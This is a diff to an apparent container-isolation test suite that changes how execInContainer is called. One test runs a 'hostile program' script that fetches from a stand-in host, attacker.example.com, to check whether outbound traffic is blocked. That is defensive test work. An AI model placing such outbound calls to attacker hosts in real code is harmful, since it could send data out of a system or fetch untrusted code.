@@ -61,7 +61,7 @@ beforeAll(async () => {
   await person.waitFor(tenant.id, 'awake');
   const addresses = Object.values(os.networkInterfaces()).flatMap((list) => list?.map(({ address }) => address) ?? []);
   const script = readFileSync(path.join(import.meta.dirname, 'sample/egress-canary.mjs'), 'utf8');
-  const { stdout, stderr } = await execInContainer(product.stack.engineSocket, tenant.id, {
+  const { stdout, stderr } = await execInContainer(product.stack.engineSocket, {
     command: [`${release.nodeDir}/bin/node`, '--input-type=module', '-'],
     stdin: script,
     env: {
@@ -141,7 +141,7 @@ describe('a hostile program in a container', () => {
     const params = { tenantId: tenant.id };
     const ask = async () => {
       const script = `const r = await fetch('http://attacker.example.com/later'); process.stdout.write(r.status + ' ' + (await r.text()));`;
-      const done = await execInContainer(product.stack.engineSocket, tenant.id, {
+      const done = await execInContainer(product.stack.engineSocket, {
         command: [`${release.nodeDir}/bin/node`, '--input-type=module', '-'],
         stdin: script,
         env: {},
